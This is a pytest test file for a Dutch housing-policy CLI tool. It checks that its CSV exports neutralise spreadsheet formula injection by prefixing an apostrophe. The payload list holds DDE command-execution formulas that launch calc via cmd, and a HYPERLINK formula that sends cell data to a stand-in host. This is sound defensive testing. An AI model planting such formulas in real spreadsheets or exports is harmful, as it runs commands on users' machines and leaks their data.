"""CSV for Excel never holds a formula: a text that starts with =, +, -, @, a tab or a CR is
written with a leading apostrophe (OWASP, CSV injection), in every command that writes CSV."""

from __future__ import annotations

import csv
import io
import json

import pytest

from conftest import AGENDA
from pa_cli.base.safe_text import spreadsheet_cell

ACTIE_112 = ("actie: Bespreken in ambtelijk overleg data-analyse en verhuurrapportages over "
             "ontwikkelingen in de woningmarkt en de wachttijden van verschillende groepen "
             "woningzoekenden.")
PAYLOADS = [
    "=1+1",
    "+1+1 bespreken",
    "-2+3 woningen",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    '=HYPERLINK("https://example.org/?d="&A1;"klik hier")',
    "=cmd|' /C calc'!A0",  # DDE
]
PEIL = ("--peildatum", "2023-06-01")


def _rows(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:]), delimiter=";"))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_status_and_overdue_csv_write_a_formula_as_text(run, ws, payload):
    """The actie of 1.1.2 (late on PEIL) holds a formula: the cell is text in both CSVs, and
    JSON still has the data as it is."""
    ws.replace(AGENDA, ACTIE_112, f"actie: {json.dumps(payload)}")
    for command in ("status", "overdue"):
        r = run(command, "--format", "csv", *PEIL)
        assert r.code == 0, r.err
        row = next(row for row in _rows(r.out) if row["nr"] == "1.1.2")
        assert row["actie"] == "'" + payload
        assert row["dagen_te_laat"] == "152"  # numbers stay numbers
    data = json.loads(run("status", "--format", "json", *PEIL).out)
    assert next(a for a in data if a["nr"] == "1.1.2")["actie"] == payload


def test_monitor_csv_writes_a_formula_as_text(run, ws):
    """A meting whose bron is a formula (recorded with pa meet): text in pa monitor's CSV."""
    payload = PAYLOADS[5]
    r = run("meet", "aanbod-regulier", "--waarde", "82,5", "--jaar", "2023", "--bron", payload)
    assert r.code == 0, r.err
    out = run("monitor", "--format", "csv", "--peildatum", "2024-01-01").out
    row = next(row for row in _rows(out) if row["indicator"] == "aanbod-regulier"
               and row["jaar"] == "2023")
    assert row["bron"] == "'" + payload and row["waarde"] == "82.5"


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_sign_is_neutralised(first):
    """The six signs OWASP names; text elsewhere and other values stay as they are."""
    assert spreadsheet_cell(first + "1+1") == "'" + first + "1+1"
    assert spreadsheet_cell("1+1=2") == "1+1=2"
    assert spreadsheet_cell(-3) == -3 and spreadsheet_cell(None) is None
